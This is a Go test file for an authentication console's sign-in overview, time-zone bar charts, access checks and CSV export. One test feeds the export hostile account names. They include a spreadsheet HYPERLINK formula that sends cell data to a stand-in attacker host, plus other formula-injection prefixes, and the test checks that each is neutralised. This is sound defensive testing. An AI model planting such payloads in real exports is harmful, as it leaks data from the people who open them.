package console

import (
	"context"
	"encoding/csv"
	"errors"
	"fmt"
	"net/http"
	"net/http/httptest"
	"slices"
	"strings"
	"testing"
	"time"

	"github.com/labstack/echo/v4"

	"nidan/exchange"
	"nidan/policies"
	"nidan/records"
)

// told keeps the records of a sign-in, one second apart. The last one is this long before now.
func (s *scene) told(t *testing.T, ago time.Duration, account, channel, reason string, states ...string) {
	t.Helper()
	err := s.store.Store.Update(t.Context(), account, func(tx exchange.Tx) (err error) {
		for i, state := range states {
			err = errors.Join(err, tx.AddRecord(t.Context(), records.Record{
				At: s.clock.Add(-ago + time.Duration(i+1-len(states))*time.Second), Kind: "sign_in", Account: account, Name: account,
				Flow: account + ago.String(), State: state, Reason: reason,
				Detail: fmt.Appendf(nil, `{"input":{"request":{"ip":"192.0.2.1"}},"decision":{"channel":%q}}`, channel),
			}))
		}
		return err
	})
	if err != nil {
		t.Fatal(err)
	}
}

const hour = time.Hour

func TestTheOverviewCountsEachSignInOnceByItsResult(t *testing.T) {
	s := newScene(t)
	who := s.visitor(t)
	s.told(t, 0, "agent", "softphone", "code_required", "code_sent", "code_mismatch", "passed")
	s.told(t, 2*hour, "plain", "admin_console", "account_off", "allowed")
	s.told(t, 3*hour, "slow", "softphone", "code_required", "code_sent", "code_mismatch", "code_mismatch")
	s.told(t, 26*hour, "locked", "softphone", "account_locked", "sign_in_again")
	s.told(t, 31*24*hour, "old", "softphone", "account_off", "allowed")
	s.remember(t, "agent")
	for period, want := range map[Period]string{
		Day:   "map[unfinished:1 with_code:1 without_code:1] map[admin_console:1 softphone:2] [{without_code account_off 1} {with_code code_required 1} {unfinished code_required 1}]",
		Week:  "map[refused:1 unfinished:1 with_code:1 without_code:1] map[admin_console:1 softphone:3] [{without_code account_off 1} {with_code code_required 1} {unfinished code_required 1} {refused account_locked 1}]",
		Month: "map[refused:1 unfinished:1 with_code:1 without_code:1] map[admin_console:1 softphone:3] [{without_code account_off 1} {with_code code_required 1} {unfinished code_required 1} {refused account_locked 1}]",
	} {
		o, err := s.Overview(t.Context(), who, period)
		if err != nil {
			t.Fatal(err)
		}
		if got := fmt.Sprint(o.Results, o.Channels, o.Reasons); got != want || !o.Whole {
			t.Errorf("%s: got %s", period, got)
		}
		if o.States["code_mismatch"] != 3 || len(o.WrongCodes) != 1 || o.WrongCodes[0].Count != 100 {
			t.Errorf("%s: wrong codes: %v, %v", period, o.States, o.WrongCodes)
		}
		total := int64(0)
		for i, b := range o.Bars {
			for _, n := range b.Results {
				total += n
			}
			if i > 0 && !b.From.Equal(o.Bars[i-1].To) {
				t.Errorf("%s: between %v and %v there is a gap", period, o.Bars[i-1].To, b.From)
			}
		}
		if now := s.clock; total != o.Total() || now.Before(o.Bars[len(o.Bars)-1].From) || !now.Before(o.To) {
			t.Errorf("%s: the bars have %d of %d, and end at %v", period, total, o.Total(), o.To)
		}
	}
}

func TestEachBarIsAnHourOrADayWhereTheConsoleIs(t *testing.T) {
	for _, tc := range []struct {
		zone   string
		period Period
		now    string
		bars   int
		first  string
		longer int // how many bars are longer or shorter than the others
	}{
		{"Asia/Tokyo", Day, "2026-04-01T09:30:00+09:00", 24, "2026-03-31T10:00:00+09:00", 0},
		{"Asia/Tokyo", Week, "2026-04-01T09:30:00+09:00", 28, "2026-03-25T12:00:00+09:00", 0},
		{"Asia/Tokyo", Month, "2026-04-01T09:30:00+09:00", 30, "2026-03-03T00:00:00+09:00", 0},
		{"Asia/Kathmandu", Day, "2026-04-01T09:30:00+05:45", 24, "2026-03-31T10:00:00+05:45", 0},
		{"Europe/Berlin", Month, "2026-04-01T09:30:00+02:00", 30, "2026-03-03T00:00:00+01:00", 1}, // with a day of 23 hours
		{"Europe/Berlin", Day, "2026-03-29T12:30:00+02:00", 23, "2026-03-28T13:00:00+01:00", 0},   // one hour of this day does not exist
	} {
		zone, err := time.LoadLocation(tc.zone)
		if err != nil {
			t.Fatal(err)
		}
		now, err := time.Parse(time.RFC3339, tc.now)
		if err != nil {
			t.Fatal(err)
		}
		bars := barsOf(tc.period, now.In(zone))
		longer := 0
		for _, b := range bars {
			if b.To.Sub(b.From) != bars[0].To.Sub(bars[0].From) {
				longer++
			}
			if b.From.Truncate(records.CountedFor) != b.From {
				t.Errorf("%s: %v is not where counts begin", tc.zone, b.From)
			}
		}
		if got := bars[0].From.Format(time.RFC3339); len(bars) != tc.bars || got != tc.first || longer != tc.longer {
			t.Errorf("%s, %s: %d bars from %s, %d are longer", tc.zone, tc.period, len(bars), got, longer)
		}
	}
}

func TestTheOverviewShowsNoMoreThanItsReaderMaySee(t *testing.T) {
	s := newScene(t)
	who := s.visitor(t)
	s.remember(t, "user")
	who.Identity, who.Person.Role = identity("admin", "supervisor"), "supervisor"
	var refusal *Refusal
	if _, err := s.Overview(t.Context(), who, Day); !errors.As(err, &refusal) || refusal.Reason != "role_may_not" {
		t.Errorf("a supervisor: %v", err)
	}
	if err := s.May(t.Context(), who, policies.ViewOverview, nil); err == nil {
		t.Error("a supervisor may see the overview")
	}
	if _, err := ReadPeriod("year"); !errors.Is(err, ErrInvalid) {
		t.Errorf("a period that there is not: %v", err)
	}
}

func TestASignInIsARowWithItsStory(t *testing.T) {
	s := newScene(t)
	who := s.visitor(t)
	s.told(t, hour, "agent", "softphone", "code_required", "code_sent", "code_mismatch", "passed")
	s.told(t, 2*hour, "agent", "softphone", "code_required", "code_sent")
	page, err := s.Rows(t.Context(), who, records.Filter{Rows: true})
	if err != nil {
		t.Fatal(err)
	}
	var told []string
	for _, r := range page.Rows {
		for _, step := range r.Story {
			told = append(told, step.State)
		}
		told = append(told, "=", r.State+";")
	}
	if got := strings.Join(told, " "); got != "code_sent = code_sent; code_sent code_mismatch passed = passed;" || page.Next != 0 {
		t.Errorf("got %s", got)
	}
}

// A spreadsheet program runs a cell that begins like a formula, and people choose their names themselves.
func TestNothingInACSVIsAFormula(t *testing.T) {
	s := newScene(t)
	who := s.visitor(t)
	hostile := []string{`=HYPERLINK("http://evil.example/"&A1)`, "+1", "-1", "@SUM(1)", "\t=1", "\r=1", "＝1", `a,"b"` + "\n=c", "harmless"}
	for i, name := range hostile {
		s.told(t, time.Duration(len(hostile)-i)*time.Minute, name, "softphone", "code_required", "passed")
	}
	e := echo.New()
	e.GET("/", func(c echo.Context) error {
		return WriteRecords(c, s.Console, who, records.Filter{})
	})
	get := func(query string) *httptest.ResponseRecorder {
		w := httptest.NewRecorder()
		e.ServeHTTP(w, httptest.NewRequest(http.MethodGet, "/"+query, nil))
		return w
	}
	w := get("?format=csv")
	if kind := w.Header().Get("Content-Type"); kind != "text/csv; charset=utf-8" || !strings.Contains(w.Header().Get("Content-Disposition"), ".csv") {
		t.Errorf("it comes as %s", kind)
	}
	text, marked := strings.CutPrefix(w.Body.String(), byteOrderMark)
	rows, err := csv.NewReader(strings.NewReader(text)).ReadAll()
	if err != nil || !marked || len(rows) != len(hostile)+1 {
		t.Fatalf("%d rows, %v: %s", len(rows), err, w.Body)
	}
	column := slices.Index(rows[0], "account")
	for i, name := range hostile {
		got := rows[len(hostile)-i]
		want := strings.ReplaceAll(name, "\r", "") // a CSV reader removes a CR without LF; the apostrophe comes before it
		if i < 7 {
			want = "'" + name
		}
		if strings.ReplaceAll(got[column], "\r", "") != strings.ReplaceAll(want, "\r", "") {
			t.Errorf("%q is written as %q", name, got[column])
		}
		for _, cell := range got {
			if cell != "" && strings.ContainsRune("=+-@\t\r＝＋－＠", []rune(cell)[0]) {
				t.Errorf("a cell begins like a formula: %q", cell)
			}
		}
	}
	if got := rows[1][slices.Index(rows[0], "channel")] + " " + rows[1][slices.Index(rows[0], "result")] + " " + rows[1][slices.Index(rows[0], "ip")]; got != "softphone with_code 192.0.2.1" {
		t.Errorf("got %s", got)
	}
	if w := get("?format=xml"); w.Code == http.StatusOK {
		t.Error("a format that there is not is taken")
	}
}

// shadows are what was counted of policies on trial.
type shadows struct{ counts []ShadowCount }

func (s *shadows) Over(_ context.Context, from, to time.Time) (found []ShadowCount, err error) {
	for _, n := range s.counts {
		if !n.At.Before(from) && n.At.Before(to) {
			found = append(found, n)
		}
	}
	return found, nil
}

func TestWhatPoliciesOnTrialWouldDecideIsOnTheSameAxisOfTime(t *testing.T) {
	s := newScene(t)
	who := s.visitor(t)
	s.Shadows = &shadows{[]ShadowCount{
		{s.clock.Add(-31 * 24 * hour), 50, 50, 50, 50},
		{s.clock.Add(-25 * hour), 7, 1, 1, 1},
		{s.clock.Add(-2 * hour), 5, 2, 0, 1}, {s.clock.Add(-2*hour + records.CountedFor), 3, 0, 1, 0},
		{s.clock, 1, 0, 0, 1},
	}}
	for period, want := range map[Period]ShadowCount{Day: {Compared: 9, Loosened: 2, Failed: 1, Otherwise: 2}, Week: {Compared: 16, Loosened: 3, Failed: 2, Otherwise: 3}} {
		o, err := s.Overview(t.Context(), who, period)
		if err != nil {
			t.Fatal(err)
		}
		if o.ShadowTotal != want {
			t.Errorf("%s: %+v, want %+v", period, o.ShadowTotal, want)
		}
	}
	o, err := s.Overview(t.Context(), who, Day)
	if err != nil {
		t.Fatal(err)
	}
	for i, want := range map[int]ShadowCount{21: {Compared: 8, Loosened: 2, Failed: 1, Otherwise: 1}, 22: {}, 23: {Compared: 1, Otherwise: 1}} {
		if got := o.Bars[i].Shadow; got != want {
			t.Errorf("the bar of %v: %+v, want %+v", o.Bars[i].From, got, want)
		}
	}
}
